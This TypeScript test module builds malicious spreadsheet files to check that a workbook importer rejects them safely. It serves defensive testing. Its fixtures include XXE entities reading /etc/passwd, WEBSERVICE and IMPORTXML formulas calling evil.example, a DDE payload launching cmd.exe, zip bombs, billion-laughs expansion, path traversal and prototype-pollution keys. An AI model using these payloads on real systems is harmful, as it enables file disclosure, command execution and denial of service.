import { makeZip, type ZipPart } from '../files/make/makeZip.ts';
import {
  type HostileSheet,
  hostileRows,
  laughs,
  mergedCells,
  refusedSheets,
  rowsOf,
  sharedText,
} from './hostileSheets.ts';
import { bookRow, bookTitles, makeXlsx, numberCell, textCell } from './makeXlsx.ts';

const good = makeXlsx();
const sheetPart = 'xl/worksheets/sheet1.xml';
const xmlParts = [
  'xl/workbook.xml',
  'xl/styles.xml',
  'xl/sharedStrings.xml',
  sheetPart,
  'xl/_rels/workbook.xml.rels',
  '[Content_Types].xml',
] as const;

/**
 * Returns malicious workbooks of every sort. Each is refused or its rows are reported, within bounds of memory and
 * time.
 */
export function manyHostileSheets(): readonly HostileSheet[] {
  return [
    ...refusedSheets(),
    ...hostileRows.map(({ what, cells }) => ({ what, content: makeXlsx({ rows: bookRow(2, cells) }) })),
    ...amplified(),
    ...bombs(),
    ...entities(),
    ...broken(),
    ...floods(),
    ...headers(),
    ...formulas(),
    ...references(),
    ...strangeNumbers(),
  ];
}

const withPart = (part: ZipPart): Buffer => makeXlsx({ parts: [part] });

function amplified(): readonly HostileSheet[] {
  const sizes = [5, 20, 90].flatMap((columns) => [1000, 10_000].map((rows) => ({ columns, rows })));
  return sizes.flatMap(({ columns, rows }) =>
    [1000, 32_760].map((letters) => ({
      what: `a text of ${letters} letters in ${columns} columns of ${rows} rows`,
      content: makeXlsx(sharedText({ columns, rows, letters })),
    })),
  );
}

function bombs(): readonly HostileSheet[] {
  const parts = [
    'xl/media/image1.png',
    'xl/sharedStrings.xml',
    'xl/styles.xml',
    'xl/theme/theme1.xml',
    'xl/worksheets/sheet2.xml',
    'docProps/core.xml',
    'customXml/item1.xml',
    'xl/printerSettings/printerSettings1.bin',
  ];
  const nested = makeZip([{ name: 'a.xml', content: Buffer.alloc(20_000_000) }]);
  return [
    ...parts.map((name) => ({
      what: `zeros in ${name}`,
      content: withPart({ name, content: Buffer.alloc(70_000_000) }),
    })),
    { what: 'an archive in the archive', content: withPart({ name: 'xl/embeddings/a.xlsx', content: nested }) },
    {
      what: 'six hundred parts',
      content: makeXlsx({
        parts: Array.from({ length: 600 }, (_, index) => ({ name: `xl/${index}.xml`, content: '<a/>' })),
      }),
    },
  ];
}

function entities(): readonly HostileSheet[] {
  const declared = {
    'a file of the server': '<!ENTITY a SYSTEM "file:///etc/passwd">',
    'an address': '<!ENTITY a SYSTEM "http://127.0.0.1:9/a">',
    'a parameter': '<!ENTITY % a SYSTEM "http://127.0.0.1:9/a.dtd"> %a;',
    'a billion laughs': laughs,
  };
  return Object.entries(declared).flatMap(([what, inner]) =>
    xmlParts.map((name) => ({
      what: `${what} as an entity in ${name}`,
      content: withPart({ name, content: `<?xml version="1.0"?><!DOCTYPE a [${inner}]><a>&a;</a>` }),
    })),
  );
}

function broken(): readonly HostileSheet[] {
  const cuts = Array.from({ length: 10 }, (_, index) => Math.floor((good.length * (index + 1)) / 11));
  const flips = Array.from({ length: 20 }, (_, index) => Math.floor((good.length * index) / 20));
  return [
    ...cuts.map((length) => ({ what: `cut off after ${length} bytes`, content: good.subarray(0, length) })),
    ...flips.map((at) => {
      const content = Buffer.from(good);
      content.writeUInt8(content.readUInt8(at) ^ 0xff, at);
      return { what: `another byte at ${at}`, content };
    }),
    ...xmlParts.map((name) => ({
      what: `elements that never end in ${name}`,
      content: withPart({ name, content: `<a>${'<b>'.repeat(500_000)}` }),
    })),
    ...xmlParts.map((name) => ({ what: `nothing in ${name}`, content: withPart({ name, content: '' }) })),
  ];
}

function floods(): readonly HostileSheet[] {
  const many = (count: number, element: string): string => element.repeat(count);
  const styles = (content: string): Buffer =>
    withPart({ name: 'xl/styles.xml', content: `<styleSheet>${content}</styleSheet>` });
  const after = (what: string, content: string): HostileSheet => ({ what, content: makeXlsx({ after: content }) });
  const rows = (what: string, content: string): HostileSheet => ({ what, content: makeXlsx({ rows: content }) });
  return [
    {
      what: 'a million shared texts',
      content: makeXlsx({ strings: Array.from({ length: 1_000_000 }, (_, index) => `${index}`) }),
    },
    {
      what: 'a shared text of 60 MB',
      content: makeXlsx({ strings: ['x'.repeat(60_000_000)], rows: '<row r="2"><c t="s"><v>0</v></c></row>' }),
    },
    { what: 'a million styles', content: styles(`<cellXfs>${many(1_000_000, '<xf numFmtId="14"/>')}</cellXfs>`) },
    {
      what: 'four hundred thousand formats',
      content: styles(`<numFmts>${many(400_000, '<numFmt numFmtId="170" formatCode="yyyy"/>')}</numFmts>`),
    },
    rows(
      'a million empty rows of cells',
      rowsOf(1_000_000, (row) => `<row r="${row}"><c/></row>`),
    ),
    rows(
      'the last column in each row',
      rowsOf(9000, (row) => `<row r="${row}"><c r="XFD${row}"><v>1</v></c></row>`),
    ),
    rows(
      'rows far from each other',
      rowsOf(9000, (row) => `<row r="${row * 110}"><c r="A${row * 110}"><v>1</v></c></row>`),
    ),
    rows('rows in wrong order', [9, 3, 7, 2].map((row) => bookRow(row)).join('')),
    rows(
      'one number for all rows',
      rowsOf(2000, () => bookRow(2)),
    ),
    rows('a row without a number', bookRow(2).replace(' r="2"', '')),
    rows('a row before the first', bookRow(-5)),
    rows('a row beyond all numbers', bookRow(2).replace('r="2"', 'r="99999999999999999999"')),
    rows('a cell with a name for a place', bookRow(2, { B: '<c r="constructor" t="inlineStr"><is><t>x</t></is></c>' })),
    rows('a cell of a type that is none', bookRow(2, { B: '<c r="B2" t="zz"><v>x</v></c>' })),
    rows('a shared text before the first', bookRow(2, { B: '<c r="B2" t="s"><v>-1</v></c>' })),
    rows('a text of 20 MB in its cell', bookRow(2, { B: textCell('B2', 'x'.repeat(20_000_000)) })),
    ...[10, 1000, 100_000].map((count) => after(`${count} merged ranges`, mergedCells(count, 'A2:XFD1048576'))),
    after('a merged range the wrong way round', mergedCells(1, 'E9:A2')),
    after('a merged range that is none', mergedCells(1, 'nothing')),
    after(
      'lists to select from over all cells',
      `<dataValidations>${many(100_000, '<dataValidation type="list" sqref="A1:XFD1048576"><formula1>A1:XFD1048576</formula1></dataValidation>')}</dataValidations>`,
    ),
    after(
      'colours by condition over all cells',
      many(
        100_000,
        '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression"><formula>1</formula></cfRule></conditionalFormatting>',
      ),
    ),
    after('links in all cells', `<hyperlinks>${many(200_000, '<hyperlink ref="A1" location="x"/>')}</hyperlinks>`),
  ];
}

function headers(): readonly HostileSheet[] {
  const titled = (what: string, titles: readonly string[]): HostileSheet => ({
    what: `titles: ${what}`,
    content: makeXlsx({ titles }),
  });
  return [
    ...bookTitles.map((gone) =>
      titled(
        `without ${gone}`,
        bookTitles.filter((title) => title !== gone),
      ),
    ),
    ...bookTitles.map((title) => titled(`${title} twice`, [...bookTitles, title.toUpperCase()])),
    titled('of 32,760 letters', [...bookTitles, 'x'.repeat(32_760)]),
    titled('reserved names', [...bookTitles, '__proto__', 'constructor', 'toString']),
    titled('markup', [...bookTitles, '&lt;img src=x onerror=alert(1)&gt;']),
    titled('spaces', ['  ', ...bookTitles.slice(1)]),
    titled('in another order', bookTitles.toReversed()),
    {
      what: 'titles: numbers',
      content: makeXlsx({
        sheet: `<worksheet><sheetData><row r="1">${numberCell('A1', 1)}</row>${bookRow(2)}</sheetData></worksheet>`,
      }),
    },
    {
      what: 'titles: formulas',
      content: makeXlsx({
        sheet: `<worksheet><sheetData><row r="1"><c r="A1"><f>"ISBN"</f><v>0</v></c></row>${bookRow(2)}</sheetData></worksheet>`,
      }),
    },
  ];
}

function formulas(): readonly HostileSheet[] {
  const sources = [
    '[1]Sheet1!A1',
    "'\\\\server\\share\\[a.xlsx]A'!A1",
    'WEBSERVICE(&quot;http://evil.example&quot;)',
    'IMPORTXML(&quot;http://evil.example&quot;,&quot;//a&quot;)',
    "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0",
    'INDIRECT(&quot;A&quot;&amp;ROW())',
    'REPT(&quot;x&quot;,32767)',
    'NOW()',
    `${'('.repeat(4000)}1${')'.repeat(4000)}`,
    'A1+'.repeat(2700).concat('1'),
  ];
  const cell = (formula: string): Buffer =>
    makeXlsx({ rows: bookRow(2, { B: `<c r="B2" t="str">${formula}<v>x</v></c>` }) });
  return [
    ...sources.map((source) => ({ what: `the formula ${source.slice(0, 40)}`, content: cell(`<f>${source}</f>`) })),
    { what: 'a formula of all cells', content: cell('<f t="array" ref="A1:XFD1048576">A1</f>') },
    { what: 'a shared formula of all cells', content: cell('<f t="shared" si="0" ref="A1:XFD1048576">A1</f>') },
    { what: 'a shared formula of nobody', content: cell('<f t="shared" si="99999"/>') },
    { what: 'a table of data', content: cell('<f t="dataTable" ref="A1:XFD1048576" dt2D="1"/>') },
  ];
}

/** Returns workbooks with external references or code. */
function references(): readonly HostileSheet[] {
  const link = (target: string): string =>
    `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="${target}" TargetMode="External"/></Relationships>`;
  return [
    ...['file:///etc/passwd', 'http://127.0.0.1:9/a.xlsx', '\\\\server\\share\\a.xlsx'].map((target) => ({
      what: `a link to ${target}`,
      content: makeXlsx({
        parts: [
          { name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' },
          { name: 'xl/externalLinks/_rels/externalLink1.xml.rels', content: link(target) },
        ],
      }),
    })),
    ...[
      'xl/vbaProject.bin',
      'xl/macrosheets/sheet1.xml',
      'xl/dialogsheets/sheet1.xml',
      'xl/activeX/activeX1.bin',
      'xl/embeddings/oleObject1.bin',
      'xl/connections.xml',
      'xl/queryTables/queryTable1.xml',
    ].map((name) => ({ what: name, content: withPart({ name, content: '<a/>' }) })),
    {
      what: 'a sheet outside of the archive',
      content: withPart({
        name: 'xl/_rels/workbook.xml.rels',
        content: link('../../../etc/passwd').replace('externalLinkPath', 'worksheet'),
      }),
    },
    {
      what: 'a hundred thousand names',
      content: makeXlsx({
        properties: `<definedNames>${'<definedName name="a">Books!$A$1</definedName>'.repeat(100_000)}</definedNames>`,
      }),
    },
  ];
}

function strangeNumbers(): readonly HostileSheet[] {
  const values = [
    '1e999',
    '-1e999',
    '0x1F',
    '१२',
    '1.7976931348623157e308',
    '5e-324',
    '-0',
    '1_000',
    '1,5',
    ' 7 ',
    '',
    '99999999999999999999',
  ];
  return values.flatMap((value) =>
    ['C', 'D'].map((column) => ({
      what: `the number "${value}" in ${column}`,
      content: makeXlsx({ rows: bookRow(2, { [column]: numberCell(`${column}2`, value, column === 'D' ? 1 : 0) }) }),
    })),
  );
}
